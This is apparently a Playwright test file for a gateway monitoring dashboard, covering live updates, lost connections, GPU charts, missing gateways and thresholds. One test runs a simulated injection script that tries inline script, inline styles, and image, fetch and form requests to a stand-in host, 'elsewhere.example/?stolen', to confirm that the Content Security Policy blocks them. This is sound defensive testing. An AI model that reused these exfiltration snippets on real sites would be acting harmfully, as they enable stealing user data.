"""The numbers on the page: that they come by themselves, and what they look like when things go badly."""

import re
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.async_api import Browser, expect
from redis.asyncio import Redis

from app.ops.shared_reports import SEEN
from tests.app.conftest import StartGateway
from tests.app.gateway import Gateway
from tests.app.ops.page.browser import Visit, sign_in, visiting
from tests.app.ops.page.hour import TwoGpus, gateway_after_an_hour

pytestmark = [pytest.mark.anyio, pytest.mark.servers]

NEXT_POLL_MS = 15_000  # the page asks every five seconds; machines that run tests are busy


async def test_what_happens_shows_up_by_itself(browser: Browser, start_gateway: StartGateway):
    gateway = await start_gateway(limits={"requests_per_minute": 2}, scripted={"reply": "a b c"})
    async with visiting(browser, gateway) as visit:
        page = visit.page
        await sign_in(visit, gateway)
        await expect(page.get_by_role("heading", name="No requests")).to_be_visible()
        await expect(page.locator("#status")).to_have_attribute("data-level", "idle")
        for _ in range(3):
            await gateway.call("POST", "/chat", json={"prompt": "hello"})
        gateway.services.history.take_sample()
        await expect(page.get_by_role("heading", name="All is well")).to_be_visible(timeout=NEXT_POLL_MS)
        await expect(page.locator("#status")).to_have_attribute("data-level", "good")
        await expect(page.locator("#status-sentence")).to_contain_text("3 requests in the last 5 minutes")
        await expect(page).to_have_title("All is well – AutoGLM Gateway")
        await expect(page.locator(".tile", has_text="Success")).to_contain_text("100 %")
        await expect(page.get_by_role("region", name="Slowest users")).to_contain_text("alice")
        await expect(page.get_by_role("region", name="Refusals")).to_contain_text("rate_limit_exceeded")
        chart = page.get_by_role("img", name="Time to first token, last hour.")
        await expect(chart).to_have_accessible_name(
            re.compile(r"Time to first token, last hour\. Now: median \d+ ms")
        )


async def test_lost_connections_are_said_and_found_again(visit: Visit, gateway: Gateway):
    await sign_in(visit, gateway)
    await expect(visit.page.get_by_role("heading", name="No requests")).to_be_visible()
    await visit.page.context.set_offline(True)
    await expect(visit.page.get_by_role("heading", name="No connection")).to_be_visible(timeout=NEXT_POLL_MS)
    await expect(visit.page.locator("#status-sentence")).to_contain_text("has not reached the gateway since")
    await visit.page.context.set_offline(False)
    await expect(visit.page.get_by_role("heading", name="No requests")).to_be_visible(timeout=NEXT_POLL_MS)
    visit.forget()  # the browser's own complaints of having been offline


async def test_an_hour_of_two_gpus_is_all_there(browser: Browser, tmp_path: Path):
    async with gateway_after_an_hour(tmp_path) as gateway, visiting(browser, gateway) as visit:
        page = visit.page
        await sign_in(visit, gateway)
        await expect(page.locator("#charts h2")).to_have_text(
            [
                "Requests per second",
                "Time to first token",
                "Tokens per second",
                "Tokens per second of one response",
                "Queue",
                "KV cache in use",
                "GPU memory in use",
                "GPU busy",
            ]
        )
        await expect(page.locator("#charts canvas")).to_have_count(8)
        for worker in ("Worker 0 cuda:0", "Worker 1 cuda:1"):
            card = page.locator(".worker", has_text=worker)
            await expect(card.get_by_role("meter", name="GPU memory")).to_have_attribute(
                "aria-valuetext", re.compile(r"^[\d.]+ GiB of 24 GiB$")
            )
            await expect(card.get_by_role("meter", name="KV cache")).to_be_visible()
        names = page.locator("#slowest tbody th")
        await expect(names).to_have_text(["kiosk-lobby", "field-test", "android-beta", "ios-beta", "alice"])
        await expect(page.locator("#refusals tbody th").first).to_contain_text("rate_limit_exceeded")
        canvas = page.locator("#charts canvas").first
        assert await canvas.evaluate(PAINTED_SHARE) > 0.02


async def test_all_gateways_are_on_one_page_and_one_that_is_missing_is_named(
    browser: Browser, start_gateway: StartGateway, redis_url: str
):
    one, _ = [await start_gateway(redis_url=redis_url) for _ in range(2)]
    async with visiting(browser, one) as visit, Redis.from_url(redis_url) as redis:
        page = visit.page
        await sign_in(visit, one)
        table = page.get_by_role("region", name="Gateways")
        await expect(table.locator("tbody th")).to_have_text(["gateway-0 (shows this page)", "gateway-1"])
        await expect(page.locator(".worker")).to_have_count(2)
        await expect(page.get_by_role("img", name="KV cache in use, last hour.")).to_have_count(1)
        dashboard = one.services.dashboard
        assert dashboard.shared is not None
        await dashboard.shared.publish(replace(dashboard.report(), instance="gone", name="gateway-2"), [])
        now, _ = await redis.time()
        await redis.zadd(SEEN, {"gone": now - 3000})
        await expect(page.get_by_role("heading", name="A gateway is missing")).to_be_visible(
            timeout=NEXT_POLL_MS
        )
        await expect(table.locator("tbody tr").last).to_contain_text("missing for 50")
        await expect(page.locator(".worker")).to_have_count(2)


async def test_thresholds_colour_what_is_over_them(browser: Browser, tmp_path: Path):
    hour = gateway_after_an_hour(tmp_path, ttft_factor=12)
    async with hour as gateway, visiting(browser, gateway) as visit:
        page = visit.page
        await sign_in(visit, gateway)
        await expect(page.get_by_role("heading", name="Slow", exact=True)).to_be_visible()
        await expect(page.locator("#status")).to_have_attribute("data-level", "bad")
        await expect(page.locator("#status")).to_have_css("background-color", "rgb(176, 26, 26)")
        slow, fast = page.locator(".tile", has_text="First token"), page.locator(".tile", has_text="Success")
        await expect(slow).to_have_attribute("data-level", "bad")
        await expect(slow).to_contain_text("bad")
        await expect(fast).to_have_attribute("data-level", "good")


async def test_a_worker_that_is_down_is_named(browser: Browser, tmp_path: Path):
    hour = gateway_after_an_hour(tmp_path, backend=TwoGpus(is_second_healthy=False))
    async with hour as gateway, visiting(browser, gateway) as visit:
        await sign_in(visit, gateway)
        await expect(visit.page.get_by_role("heading", name="A worker is down")).to_be_visible()
        await expect(visit.page.locator(".worker", has_text="cuda:1")).to_contain_text("down")


async def test_code_that_gets_in_neither_runs_nor_reports_anywhere(visit: Visit, gateway: Gateway):
    await sign_in(visit, gateway)
    await visit.page.evaluate(ATTACK)
    for directive in ("require-trusted-types-for", "style-src-attr", "img-src", "connect-src", "form-action"):
        await visit.page.wait_for_function("wanted => globalThis.forbidden.has(wanted)", arg=directive)
    assert await visit.page.evaluate("globalThis.hasRun") is None
    visit.forget()


# What somebody would try whose text got into the page. `forbidden` has the directives that stood against it.
ATTACK = """async () => {
  globalThis.forbidden = new Set();
  document.addEventListener("securitypolicyviolation", event => forbidden.add(event.effectiveDirective));
  const button = document.createElement("button");
  const form = Object.assign(document.createElement("form"), { action: "https://elsewhere.example/" });
  const attempts = [
    () => { document.body.innerHTML += "<b>markup</b>"; },
    () => { button.setAttribute("onclick", "globalThis.hasRun = true"); },
    () => { document.body.append(button, form); button.click(); },
    () => { document.body.setAttribute("style", "color: red"); },
    () => { document.body.append(Object.assign(new Image(), { src: "https://elsewhere.example/?stolen" })); },
    () => fetch("https://elsewhere.example/?stolen"),
    () => form.submit(),
  ];
  for (const attempt of attempts) await Promise.resolve().then(attempt).catch(() => {});
}"""

# How much of a canvas is not transparent.
PAINTED_SHARE = """canvas => {
  const pixels = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data;
  let painted = 0;
  for (let index = 3; index < pixels.length; index += 4) painted += pixels[index] > 0;
  return painted / (pixels.length / 4);
}"""
